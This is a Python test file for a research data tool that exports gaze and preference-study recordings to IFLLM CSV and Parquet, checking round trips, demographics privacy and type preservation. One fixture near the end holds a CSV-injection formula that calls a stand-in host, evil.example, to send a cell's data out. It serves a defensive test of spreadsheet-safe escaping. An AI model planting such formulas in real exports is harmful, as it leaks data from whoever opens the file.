"""Round trips: IFLLM → Parquet → IFLLM layout, and the site's database → both formats."""
from __future__ import annotations

import datetime as dt
import json
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from sqlalchemy import select

from gazepref import UserError, schema, store
from gazepref.cli import main
from gazepref.datasets.export import export_ifllm, export_parquet
from gazepref.datasets.ifllm import open_release
from gazepref.datasets.recording import open_recording
from gazepref.datasets.store_recording import StoreRecording
from gazepref.signals.task_data import from_recording

from .synthetic_ifllm import build


def _turn_key(t: schema.Turn):
    return (t.task_id, t.index, t.kind, t.prompt, t.choice, t.better_than_previous, t.modifiers, t.epoch_ms,
            [(r.position, r.model, r.text, r.likert) for r in t.responses])


def _assert_same(a, b, streams=("gaze", "mouse", "hits")):
    assert [_turn_key(t) for t in a.turns()] == [_turn_key(t) for t in b.turns()]
    assert [t.task_id for t in a.tasks()] == [t.task_id for t in b.tasks()]
    for task in a.tasks():
        sa, sb = a.streams(task.task_id), b.streams(task.task_id)
        for name in streams:
            if name not in sa:
                assert name not in sb
                continue
            ta, tb = sa[name], sb[name]
            assert ta.num_rows == tb.num_rows, (task.task_id, name)
            for col in ("t", "x", "y"):
                np.testing.assert_allclose(ta.column(col).to_numpy(), tb.column(col).to_numpy(), rtol=1e-6)
            if name == "hits":
                assert ta.column("char_index").to_pylist() == tb.column("char_index").to_pylist()
                assert ta.column("window").to_pylist() == tb.column("window").to_pylist()


def test_round_trip_real_sample(ifllm_sample: Path, tmp_path: Path):
    src = open_release(ifllm_sample)
    export_parquet(src, tmp_path / "pq")
    pq_rec = open_recording(tmp_path / "pq")
    _assert_same(src, pq_rec)
    export_ifllm(pq_rec, tmp_path / "ifllm")
    back = open_recording(tmp_path / "ifllm")
    _assert_same(src, back)
    assert back.summary()["malformed_rows_skipped"] == 0  # what we write is well-formed
    assert pq_rec.summary()["malformed_rows_skipped"] == src.report.total  # every sample rel line parses


def test_round_trip_synthetic_keeps_offsets_and_quirks(tmp_path: Path):
    build(tmp_path / "src", hour_offset=4)
    src = open_release(tmp_path / "src")
    export_ifllm(src, tmp_path / "out")
    back = open_release(tmp_path / "out")
    _assert_same(src, back)
    # the export keeps the source's timestamps, so the same offset is found again
    assert back.clock_offset_hours("worker_aaa/1") == src.clock_offset_hours("worker_aaa/1") == -4
    assert export_parquet(src, tmp_path / "pq")["malformed_rows_skipped"] == src.report.total == 1


def test_export_refuses_non_empty_folder(tmp_path: Path, ifllm_sample: Path):
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "keep.txt").write_text("mine")
    with pytest.raises(UserError, match="not empty"):
        export_parquet(open_release(ifllm_sample), tmp_path / "out")
    assert (tmp_path / "out" / "keep.txt").read_text() == "mine"


def _study_db(tmp_path: Path, prompt: str = "capital?", answer: str = "It is Paris.",
              feedback: str = 'the second one, says it, "clearly"\nand more',
              answers: dict | None = None, task_answers: dict | None = None) -> str:
    url = store.sqlite_url(tmp_path / "site.sqlite")
    Session = store.init_db(store.make_engine(url))
    with Session() as db:
        study = store.Study(slug="pilot", name="Pilot", salt="s3cret")
        p = store.Participant(study=study, pseudonym="p_1a2b", platform="prolific", consent=True)
        declined = store.Participant(study=study, pseudonym="p_9z", consent=False)
        task = store.Task(participant=p, kind="pairwise", topic="France", clock_anchor_epoch_ms=1.7e12,
                          finished_at=dt.datetime(2026, 12, 1, 10, 30, 5), answers=task_answers or {})
        p.demographics = store.Demographics(answers=answers or {"age": "25-34", "languages": ["en", "fr"]})
        declined.demographics = store.Demographics(answers={"age": "65+"})  # declined: never exported
        t0 = store.Turn(task=task, index=0, kind="pairwise", prompt=prompt, prompt_sent=prompt, choice=1,
                        epoch_ms=1.7e12 + 1000, t_shown=1000.0, t_decided=9000.0, feedback_text=feedback,
                        responses=[store.Response(position=0, model="demo-a", text="Paris.", likert=3),
                                   store.Response(position=1, model="demo-b", text=answer, likert=5)])
        db.add_all([study, p, declined, task, t0])
        db.flush()
        mouse = pa.table({"t": [500.0, 1500.0, 2500.0], "x": [1, 2, 3], "y": [4, 5, 6]})
        db.add(store.make_chunk(task.id, "mouse", 0, mouse, clock_origin_epoch_ms=1.7e12))
        # a reload: a new page clock that started 10 s after the task's anchor
        db.add(store.make_chunk(task.id, "mouse", 1, pa.table({"t": [100.0], "x": [9], "y": [9]}),
                                clock_origin_epoch_ms=1.7e12 + 10_000))
        db.commit()
    return url


def test_store_recording_exports_to_both_formats(tmp_path: Path):
    url = _study_db(tmp_path)
    rec = StoreRecording.open("pilot", db_url=url)
    assert [p.participant_id for p in rec.participants()] == ["p_1a2b"]  # declined consent: not exported
    (task,) = rec.tasks()
    mouse = rec.streams(task.task_id)["mouse"]
    assert mouse.column("t").to_pylist() == [500.0, 1500.0, 2500.0, 10_100.0]  # reload shifted onto task clock
    assert mouse.column("turn").to_pylist() == [-1, 0, 0, 0]
    export_parquet(rec, tmp_path / "pq")
    # the samples' Unix time, as the IFLLM layout has it: the task's anchor + t (the site's pages
    # record on the task clock only; it was left empty)
    import pyarrow.parquet as pq

    pq_mouse = pq.read_table(tmp_path / "pq" / "streams" / "mouse.parquet")
    assert pq_mouse.column("epoch_ms").to_pylist() == [1.7e12 + t for t in (500.0, 1500.0, 2500.0, 10_100.0)]
    export_ifllm(rec, tmp_path / "ifl")
    back = open_release(tmp_path / "ifl")
    (turn,) = back.turns()
    assert turn.choice == schema.RIGHT and [r.likert for r in turn.responses] == [3, 5]
    assert (turn.t_shown, turn.t_decided) == (1000.0, 9000.0)
    # read back, samples after the decision are still cut (the reload sample at 10.1 s)
    in_turns = from_recording(back, back.tasks()[0]).clean_counts["mouse_in_turns"]
    assert in_turns == from_recording(rec, task).clean_counts["mouse_in_turns"] == 2
    assert back.summary()["mouse_samples"] == 4
    files = "".join(p.read_text() for p in (tmp_path / "ifl").glob("*.csv"))
    assert "s3cret" not in files and "prolific" not in files
    # the task's finished time and the turn's comment survive the IFLLM layout
    import pandas as pd

    tt = pd.read_csv(tmp_path / "ifl" / "task_table.csv")
    assert tt["finished"].tolist() == ["2026-12-01 10:30:05"]
    assert back.tasks()[0].finished and back.tasks()[0].answers["finished"] == "2026-12-01 10:30:05"
    assert turn.feedback_text == 'the second one, says it, "clearly"\nand more'
    # demographics: never in the behaviour exports
    assert "25-34" not in files and not (tmp_path / "ifl" / "demographics.csv").exists()
    assert not any("demographics" in f.name for f in (tmp_path / "pq").iterdir())


def test_ifllm_layout_keeps_a_studys_modifiers_prompt_sent_and_choice_strength(tmp_path: Path):
    """The release's ``adjustment`` only says "IFLLM's bullet-point modifier or none": a study's own
    modifier, the prompt as the models got it and the choice's strength are columns of their own,
    read back as written (they read as bullet points / nothing before); the release's rows, without
    them, still read ``adjustment`` as IFLLM's modifier."""
    url = _study_db(tmp_path)
    Session = store.init_db(store.make_engine(url))
    with Session() as db:
        turn = db.scalars(select(store.Turn)).one()
        turn.modifiers, turn.prompt_sent, turn.choice_strength = ["spanish"], "capital? answer in Spanish", 2
        db.commit()
    rec = StoreRecording.open("pilot", db_url=url)
    export_ifllm(rec, tmp_path / "ifl")
    (back,) = open_release(tmp_path / "ifl").turns()
    assert (back.modifiers, back.prompt_sent, back.choice_strength) == (["spanish"], "capital? answer in Spanish", 2)
    export_parquet(open_release(tmp_path / "ifl"), tmp_path / "pq")  # and on into Parquet
    (again,) = open_recording(tmp_path / "pq").turns()
    assert (again.modifiers, again.prompt_sent, again.choice_strength) == (["spanish"], "capital? answer in Spanish", 2)

    import pandas as pd

    table = tmp_path / "ifl" / "query_logs_table.csv"
    q = pd.read_csv(table)
    assert q["adjustment"].tolist() == [1] and q["choice_strength"].tolist() == [2]
    q.drop(columns=["modifiers", "prompt_sent", "choice_strength"]).to_csv(table, index=False)  # the release's
    (release,) = open_release(tmp_path / "ifl").turns()
    assert release.modifiers == ["respond using bullet points"] and release.prompt_sent.endswith("bullet points")
    assert release.choice_strength is None
    q.assign(modifiers="spanish").to_csv(table, index=False)  # a hand-edited cell: one clear line
    with pytest.raises(UserError, match="row 2: modifiers 'spanish' is not a JSON list"):
        open_release(tmp_path / "ifl").turns()


@pytest.mark.parametrize("text", ["NA", "n/a", "null", "nan", "None"])
def test_texts_that_pandas_takes_for_missing_read_back_as_written(tmp_path: Path, text: str):
    """A prompt, an answer or a comment "NA" (or "n/a", "null", ...) is that text through the IFLLM
    layout, as through Parquet: they read back as "" (the prompt, beside its prompt_sent "NA"),
    "nan" (an answer) and None (a comment)."""
    url = _study_db(tmp_path, prompt=text, answer=text, feedback=text)
    export_ifllm(StoreRecording.open("pilot", db_url=url), tmp_path / "ifl")
    (turn,) = open_release(tmp_path / "ifl").turns()
    assert (turn.prompt, turn.prompt_sent, turn.responses[1].text, turn.feedback_text) == (text,) * 4


def test_ifllm_export_keeps_the_answers_to_a_studys_own_questions(tmp_path: Path):
    """The IFLLM task table has columns for the release's questions only; a study's own pre- and
    post-task questions (ids such as ``trust``) were left out of the IFLLM export. They follow the
    release's columns as ``question_ID`` and are read back; the task's plan is not a question."""
    import pandas as pd

    asked = {"understand_before": 2, "understand_after": 4, "trust": 3, "prefer_style": "short",
             "attention": 2, "attention_passed": True}
    url = _study_db(tmp_path, task_answers={"topic_id": "france", "models": ["demo-a", "demo-b"],
                                            "feedback": "fine", **asked})
    with store.init_db(store.make_engine(url))() as db:  # a second task, not answered (yet)
        db.add(store.Task(participant=db.scalars(select(store.Participant)).first(), kind="pointwise", index=1,
                          topic="Spain", answers={"topic_id": "spain", "models": ["demo-a"]}))
        db.commit()
    export_ifllm(StoreRecording.open("pilot", db_url=url), tmp_path / "ifl")
    # the integer answers are written as integers beside the unanswered task's blanks
    assert ",2,4,,,,2026-12-01 10:30:05,France,3,short,2,True" in (tmp_path / "ifl" / "task_table.csv").read_text()
    tt = pd.read_csv(tmp_path / "ifl" / "task_table.csv")
    own = [c for c in tt.columns if c.startswith("question_")]
    assert own == ["question_trust", "question_prefer_style", "question_attention", "question_attention_passed"]
    assert tt.loc[0, own].tolist() == [3, "short", 2, True]
    assert tt.loc[0, ["understand_before", "understand_after"]].tolist() == [2, 4]
    task, unanswered = open_release(tmp_path / "ifl").tasks()
    assert {k: task.answers[k] for k in asked} == asked
    assert all(unanswered.answers.get(k) is None for k in asked)


def test_a_studys_own_answers_read_back_as_written(tmp_path: Path):
    """The answers to a study's own questions are read back from the IFLLM export as the exporter
    wrote them: a text answer that pandas takes for a number or a missing value ("0042" was read
    as 42; "None", "n/a" and "NA" as no answer) stays text, numbers and verdicts keep their type
    (3, not 3.0, beside an unanswered task)."""
    asked = {"trust": 3, "share": 2.5, "comments": "None", "zip": "0042", "na": "n/a", "NA": "NA",
             "attention": 4, "attention_passed": False}
    url = _study_db(tmp_path, task_answers={"topic_id": "france", "models": ["demo-a", "demo-b"], **asked})
    with store.init_db(store.make_engine(url))() as db:  # a second task, not answered (yet)
        db.add(store.Task(participant=db.scalars(select(store.Participant)).first(), kind="pointwise", index=1,
                          topic="Spain", answers={"topic_id": "spain", "models": ["demo-a"]}))
        db.commit()
    export_ifllm(StoreRecording.open("pilot", db_url=url), tmp_path / "ifl")
    task, unanswered = open_release(tmp_path / "ifl").tasks()
    got = {k: task.answers.get(k) for k in asked}
    assert got == asked and [type(v) for v in got.values()] == [type(v) for v in asked.values()]
    assert not any(k in unanswered.answers for k in asked)


def _documented_columns() -> dict[str, set[str]]:
    """docs/exports.md's Parquet table: each file's row, every name in backquotes."""
    import re

    text = (Path(__file__).parents[2] / "docs" / "exports.md").read_text()
    rows = re.findall(r"^\| `([^`]+)` \|[^|]*\|(.*)\|$", text, re.M)
    return {name: set(re.findall(r"`([^`]+)`", cells)) for name, cells in rows}


def test_every_exported_column_is_documented(tmp_path: Path):
    """A researcher reads what each column of an export holds in docs/exports.md: every column the
    Parquet export writes (and what the IFLLM layout adds to the release's) is named there."""
    import pandas as pd

    from gazepref.datasets.export import TASK_CALIBRATION_COLUMNS
    from gazepref.datasets.ifllm import QUERY_TURN_COLUMNS
    from gazepref.datasets.store_recording import CALIBRATION_COLUMNS, FRAME_COLUMNS

    docs = _documented_columns()
    url = _study_db(tmp_path)
    manifest = export_parquet(StoreRecording.open("pilot", db_url=url), tmp_path / "pq")
    written = {f.name: set(pd.read_parquet(f).columns) for f in (tmp_path / "pq").glob("*.parquet")}
    written["calibrations.parquet"] = set(CALIBRATION_COLUMNS)
    written["frames/frames.csv"] = set(FRAME_COLUMNS)  # (a study that keeps its webcam pictures)
    written["streams/<stream>.parquet"] = {"turn", "task_id"}
    written["manifest.json"] = set(manifest) - {"skipped"}
    assert set(written) <= set(docs)
    missing = {name: sorted(cols - docs[name]) for name, cols in written.items() if cols - docs[name]}
    assert not missing, f"columns the export writes but docs/exports.md does not name: {missing}"
    ifllm_part = (Path(__file__).parents[2] / "docs" / "exports.md").read_text().split("## IFLLM layout")[1]
    assert all(f"`{c}`" in ifllm_part for c in ["t_shown", "t_decided", "comment", "question_<id>",
                                                *TASK_CALIBRATION_COLUMNS, *QUERY_TURN_COLUMNS])


def test_demographics_only_on_request(tmp_path: Path, ifllm_sample: Path, capsys):
    url = _study_db(tmp_path)
    out = tmp_path / "with"
    assert main(["data", "export", "pilot", "--db", url, "--to", "ifllm", "--out", str(out), "--demographics"]) == 0
    assert "may identify people" in capsys.readouterr().out
    import pandas as pd

    demo = pd.read_csv(out / "demographics.csv")
    assert demo.to_dict("records") == [{"participant_id": "p_1a2b", "age": "25-34", "languages": '["en", "fr"]'}]
    assert "may identify people" in (out / "DEMOGRAPHICS_README.txt").read_text()
    assert "25-34" not in (out / "task_table.csv").read_text()
    assert main(["data", "export", "pilot", "--db", url, "--out", str(tmp_path / "without"), "--json"]) == 0
    assert "demographics" not in json.loads(capsys.readouterr().out)
    assert not (tmp_path / "without" / "demographics.csv").exists()
    # a Parquet export holds none (they were written apart): said so, with where to get them
    assert main(["data", "export", str(tmp_path / "without"), "--out", str(tmp_path / "p"), "--demographics"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "holds no demographics answers (a Parquet export never does" in err


def test_demographics_nobody_answered_writes_a_note(tmp_path: Path):
    """--demographics where nobody answered: no demographics.csv, and a note saying why."""
    from gazepref.datasets.export import export_demographics

    assert export_demographics([("p_1", {})], tmp_path, n_participants=2) == 0
    assert not (tmp_path / "demographics.csv").exists()
    note = (tmp_path / "DEMOGRAPHICS_README.txt").read_text()
    assert "nobody answered" in note.lower() and "2 consenting participants" in note


def test_demographics_of_an_ifllm_release(tmp_path: Path, ifllm_sample: Path, capsys):
    """The release's record_info_table.csv has the workers' demographics: --demographics exports
    them apart, as for a study; the behaviour files (the record table too) never hold them."""
    import csv

    import pandas as pd

    with open(ifllm_sample / "record_info_table.csv", newline="") as fh:
        rows = [r for r in csv.DictReader(fh) if r["consent"] == "1"]
    assert rows and {"age", "gender", "inserted_at"} <= set(rows[0])
    out = tmp_path / "ifl"
    assert main(["data", "export", str(ifllm_sample), "--to", "ifllm", "--out", str(out), "--demographics",
                 "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["demographics"] == len(rows)
    demo = pd.read_csv(out / "demographics.csv", dtype=str)
    assert list(demo.columns) == ["participant_id", "age", "location", "education", "race", "gender"]
    for got, want in zip(demo.to_dict("records"), rows):
        assert got["participant_id"] == want["user_id"] and got["gender"] == want["gender"]
        assert got["race"] == want["race"] and float(got["age"]) == float(want["age"])
    assert "may identify people" in (out / "DEMOGRAPHICS_README.txt").read_text()
    behaviour = (out / "record_info_table.csv").read_text() + (out / "task_table.csv").read_text()
    assert rows[0]["location"] not in behaviour and rows[0]["gender"] not in behaviour
    assert main(["data", "export", str(ifllm_sample), "--out", str(tmp_path / "pq"), "--demographics"]) == 0
    assert "may identify people" in capsys.readouterr().out
    assert (tmp_path / "pq" / "demographics.csv").read_text() == (out / "demographics.csv").read_text()


def test_cli_export_and_summary(tmp_path: Path, ifllm_sample: Path, capsys):
    assert main(["data", "export", str(ifllm_sample), "--to", "parquet", "--out", str(tmp_path / "pq"), "--json"]) == 0
    manifest = json.loads(capsys.readouterr().out)
    assert manifest["turns"] == 47
    assert main(["data", "summary", str(tmp_path / "pq"), "--json"]) == 0
    s = json.loads(capsys.readouterr().out)
    assert s["turns"] == 47 and s["gaze_samples"] == manifest["samples"]["gaze"]
    assert main(["data", "export", "--study", "nope", "--db", store.sqlite_url(tmp_path / "x.sqlite"),
                 "--out", str(tmp_path / "o")]) == 2
    assert "no database" in capsys.readouterr().err


def test_ifllm_export_of_a_study_keeps_samples_on_their_turns_when_the_clocks_differ(tmp_path: Path):
    """The server stamps a turn's ``epoch_ms``; samples run on the participant's page clock. With
    the two clocks 2 minutes apart (an unsynchronised computer; a simulated study's fixed clock),
    the IFLLM export read back must still put the samples on their turn: our exporter writes each
    turn's ``t_shown`` on the task clock, and the reader uses it (before: every sample went to
    turn -1, so features found no gaze or pointer at all, without a word)."""
    url = _study_db(tmp_path)
    Session = store.init_db(store.make_engine(url))
    with Session() as db:
        db.query(store.Turn).one().epoch_ms = 1.7e12 + 1000 + 120_000
        db.commit()
    rec = StoreRecording.open("pilot", db_url=url)
    export_ifllm(rec, tmp_path / "ifl")
    back = open_release(tmp_path / "ifl")
    (task,) = back.tasks()
    assert back.streams(task.task_id)["mouse"].column("turn").to_pylist() == [-1, 0, 0, 0]
    assert from_recording(back, task).clean_counts["mouse_in_turns"] == 2


def test_ifllm_export_counts_the_gaze_rows_whose_click_correction_it_cannot_hold(tmp_path: Path):
    """A site study's gaze corrected from clicks (``drift_x``/``drift_y``/``drift_clicks``, the
    tracker's estimate ``x - drift_x``) goes to ``abs_gaze.csv`` as corrected; the layout has no
    column for the correction, so the rows that had one are counted in ``skipped`` (the export said
    nothing of it before); the Parquet export keeps the columns."""
    url = _study_db(tmp_path)
    Session = store.init_db(store.make_engine(url))
    with Session() as db:
        gaze = pa.table({"t": [1500.0, 1600.0, 1700.0, 1800.0], "x": [300.0, 310.0, float("nan"), 320.0],
                         "y": [200.0, 205.0, float("nan"), 210.0], "drift_x": [0.0, -12.0, -12.0, -9.0],
                         "drift_y": [0.0, 4.0, 4.0, 3.0], "drift_clicks": [0.0, 1.0, 1.0, 2.0]})
        db.add(store.make_chunk(db.query(store.Task).one().id, "gaze", 0, gaze, clock_origin_epoch_ms=1.7e12))
        db.commit()
    rec = StoreRecording.open("pilot", db_url=url)
    manifest = export_ifllm(rec, tmp_path / "ifl")
    assert manifest["skipped"]["gaze_rows_click_correction"] == 2  # (the row without a position is not written: counted as such)
    (task,) = open_release(tmp_path / "ifl").tasks()
    assert open_release(tmp_path / "ifl").streams(task.task_id)["gaze"].column("x").to_pylist() == [300.0, 310.0, 320.0]
    export_parquet(rec, tmp_path / "pq")
    assert pq.read_table(next((tmp_path / "pq").rglob("gaze.parquet"))).column("drift_clicks").to_pylist() == [0.0, 1.0, 1.0, 2.0]


def test_ifllm_export_leaves_out_samples_without_a_position_and_counts_them(tmp_path: Path):
    """A gaze row without a position (a blink, an uncalibrated picture) cannot be written to the
    IFLLM layout's ``x,y,t,epoch`` lines (",,t,epoch" reads back as malformed): it is left out and
    counted in ``skipped``; the Parquet export keeps it."""
    url = _study_db(tmp_path)
    Session = store.init_db(store.make_engine(url))
    with Session() as db:
        gaze = pa.table({"t": [1500.0, 1600.0, 1700.0], "x": [300.0, float("nan"), 320.0],
                         "y": [200.0, float("nan"), 210.0]})
        db.add(store.make_chunk(db.query(store.Task).one().id, "gaze", 0, gaze, clock_origin_epoch_ms=1.7e12))
        db.commit()
    rec = StoreRecording.open("pilot", db_url=url)
    manifest = export_ifllm(rec, tmp_path / "ifl")
    assert manifest["skipped"]["rows_without_position"] == 1 and manifest["samples"]["gaze"] == 2
    back = open_release(tmp_path / "ifl")
    assert back.summary()["malformed_rows_skipped"] == 0
    (task,) = back.tasks()
    assert back.streams(task.task_id)["gaze"].column("x").to_pylist() == [300.0, 320.0]
    assert export_parquet(rec, tmp_path / "pq")["samples"]["gaze"] == 3



#: what participants (and a model they steered) may write: text a spreadsheet would run as a formula
FORMULAS = {"prompt": '=HYPERLINK("https://evil.example/?d="&A2,"click")', "answer": "- a bullet list\n- of two",
            "feedback": " +1 agreed", "answers": {"age": "-", "handle": "@me", "note": "\t=1+1", "plain": "fine"}}


def _csv_cells(folder: Path) -> dict[str, list[list[str]]]:
    """Every CSV file under ``folder`` as the csv module (a spreadsheet's reading) splits it."""
    import csv

    return {str(f.relative_to(folder)): list(csv.reader(f.open(newline="", encoding="utf-8")))
            for f in sorted(folder.rglob("*.csv"))}


def test_exports_keep_text_exactly_by_default_and_escape_formulas_only_for_spreadsheets(tmp_path: Path, capsys):
    """Text a spreadsheet would run as a formula (OWASP "CSV Injection": = + - @ tab CR first) is
    written exactly by default (pandas and the reader get it back as stored); with
    --spreadsheet-safe every such text cell of every CSV gets a leading ' and nothing else changes
    (numbers included), the export says so, and the reader refuses it."""
    import pandas as pd

    from gazepref.datasets.export import FORMULA_TRIGGERS, SPREADSHEET_NOTE

    url = _study_db(tmp_path, **FORMULAS)
    exact, safe = tmp_path / "exact", tmp_path / "safe"
    for out, extra in ((exact, []), (safe, ["--spreadsheet-safe"])):
        assert main(["data", "export", "pilot", "--db", url, "--to", "ifllm", "--out", str(out), "--demographics",
                     "--json", *extra]) == 0
        manifest = json.loads(capsys.readouterr().out)
        assert manifest.get("spreadsheet_safe", False) == bool(extra)

    (turn,) = open_release(exact).turns()
    assert turn.prompt == FORMULAS["prompt"] and turn.feedback_text == FORMULAS["feedback"]
    assert turn.responses[1].text == FORMULAS["answer"]
    demo = pd.read_csv(exact / "demographics.csv", dtype=str, keep_default_na=False)
    assert demo.drop(columns="participant_id").to_dict("records") == [FORMULAS["answers"]]
    assert not (exact / "SPREADSHEET_SAFE.txt").exists()

    def formula(cell: str) -> bool:  # (a number, e.g. a negative coordinate, is a number to a spreadsheet too)
        try:
            float(cell)
            return False
        except ValueError:
            return bool(cell) and (cell[0] in FORMULA_TRIGGERS or cell.lstrip()[:1] in FORMULA_TRIGGERS)

    plain, escaped = _csv_cells(exact), _csv_cells(safe)
    assert plain.keys() == escaped.keys() and "demographics.csv" in plain and "query_logs_table.csv" in plain
    changed = []
    for name, rows in plain.items():
        assert len(rows) == len(escaped[name])
        for row, row_safe in zip(rows, escaped[name]):
            assert not any(formula(c) for c in row_safe), (name, row_safe)
            for c, c_safe in zip(row, row_safe):
                if c != c_safe:
                    assert c_safe == "'" + c and formula(c), (name, c, c_safe)
                    changed.append(c)
    # the participant's text only: every formula-like cell, and no number (a negative one would be);
    # the prompt twice, as typed and as sent
    assert sorted(changed) == sorted([FORMULAS["prompt"], FORMULAS["prompt"], FORMULAS["answer"], FORMULAS["feedback"],
                                      *(v for v in FORMULAS["answers"].values() if formula(v))])
    assert (safe / "SPREADSHEET_SAFE.txt").read_text() == SPREADSHEET_NOTE
    with pytest.raises(UserError, match="spreadsheet"):
        open_release(safe)
    # the same folder exported again without the option is exact, and readable, again
    assert main(["data", "export", "pilot", "--db", url, "--to", "ifllm", "--out", str(safe), "--overwrite",
                 "--demographics", "--json"]) == 0
    assert _csv_cells(safe) == plain and open_release(safe).turns()[0].prompt == FORMULAS["prompt"]


def test_tasks_of_a_stream_with_other_columns_are_written_in_one_file_of_them_all(tmp_path: Path):
    """One Parquet file a stream, though its tasks hold other columns (stored chunks leave out the
    optional columns that are all null: a task without a face has no ``eye_*``): a task lacking a
    column gets nulls there, one bringing a new column keeps it (the earlier ones null). Before,
    the first task's columns decided: a later task's cast raised, then (a first fix) its new
    columns were dropped."""
    import pyarrow.parquet as pq

    from gazepref.datasets.export import _StreamFiles

    f32 = pa.float32()
    no_face = pa.table({"t": [0.0], "x": pa.array([None], f32), "task_id": ["p/1"]})
    face = pa.table({"t": [1.0, 2.0], "x": pa.array([3.0, 4.0], f32), "eye_l_open": pa.array([0.3, 0.2], f32),
                     "task_id": ["p/2", "p/2"]})
    bare = pa.table({"t": [5.0], "task_id": ["p/3"]})
    files = _StreamFiles(tmp_path)
    for table in (no_face, face, bare):
        files.write("gaze", table)
    files.write("mouse", pa.table({"t": [0.0], "task_id": ["p/1"]}))  # alike throughout: written once
    files.finish()
    gaze = pq.read_table(tmp_path / "gaze.parquet")
    assert gaze.column_names == ["t", "x", "eye_l_open", "task_id"]
    assert gaze.column("eye_l_open").to_pylist() == [None, pytest.approx(0.3), pytest.approx(0.2), None]
    assert gaze.column("x").to_pylist() == [None, 3.0, 4.0, None] and gaze.column("t").to_pylist() == [0, 1, 2, 5]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["gaze.parquet", "mouse.parquet"], "no parts left"


def test_calibration_rounds_read_back_as_written(tmp_path):
    """A site study's rounds table read back (an export exported again): a pseudonym ``0042`` or
    ``1e5`` stays text, a word stays a word, ``passed`` a flag or nothing, times UTC; an older
    table without the newer columns reads them as None."""
    import pandas as pd

    from gazepref.datasets.calibration_rounds import CALIBRATION_COLUMNS, read_csv_rounds

    rows = [{"participant_id": "0042", "step": 1, "kind": "calibration", "attempt": 1, "passed": None,
             "created_at": "2026-12-07T08:00:00.123456+00:00", "quality": None, "error": "too few pictures",
             "points": None},
            {"participant_id": "1e5", "step": 1, "kind": "validation", "attempt": 1, "passed": True,
             "created_at": "2026-12-07T08:01:00+00:00", "quality": "NA", "accuracy_px": 120.5,
             "points": '[{"target_x": 1}]'},
            {"participant_id": "TRUE", "step": 1, "kind": "outcome", "attempt": 1, "passed": False,
             "created_at": "2026-12-07T08:01:00+00:00", "quality": "poor", "fallback": "mouse-only"}]
    old = [c for c in CALIBRATION_COLUMNS if c not in ("mesh_thread", "mesh_ms_per_picture")]
    pd.DataFrame(rows, columns=old).to_csv(tmp_path / "calibration_table.csv", index=False)
    back = read_csv_rounds(tmp_path)
    assert [r["participant_id"] for r in back] == ["0042", "1e5", "TRUE"]
    assert [r["passed"] for r in back] == [None, True, False] and back[1]["quality"] == "NA"
    assert back[0]["error"] == "too few pictures" and back[1]["points"] == '[{"target_x": 1}]'
    assert back[1]["accuracy_px"] == 120.5 and back[0]["accuracy_px"] is None and back[0]["mesh_thread"] is None
    assert str(back[0]["created_at"]) == "2026-12-07 08:00:00.123456+00:00"
    assert read_csv_rounds(tmp_path / "nothing-here") is None


def test_an_export_into_a_folder_whose_parent_is_not_writable_is_written_inside_it(tmp_path: Path, monkeypatch):
    """The export is written into a new folder beside --out and moved in once whole; where nothing
    can be written beside it (a mount point's parent), the new folder is made inside --out and
    moved out of the way: the export is whole, with nothing left of the work folder."""
    import tempfile

    from gazepref.datasets.export import export_recording

    url = _study_db(tmp_path)
    out = tmp_path / "mount"
    real = tempfile.mkdtemp

    def no_room_beside(*a, dir=None, **kw):
        if dir is not None and Path(dir) == out.parent:
            raise PermissionError(13, "Permission denied")
        return real(*a, dir=dir, **kw)

    monkeypatch.setattr(tempfile, "mkdtemp", no_room_beside)
    for overwrite in (False, True):  # (again over the first: its contents replaced)
        export_recording(StoreRecording.open("pilot", db_url=url), out, "ifllm", overwrite=overwrite)
        assert sorted(p.name for p in out.iterdir() if p.name.endswith(".partial")) == []
        (turn,) = open_release(out).turns()
        assert turn.prompt == "capital?"
    assert not list(tmp_path.glob(".mount.*"))
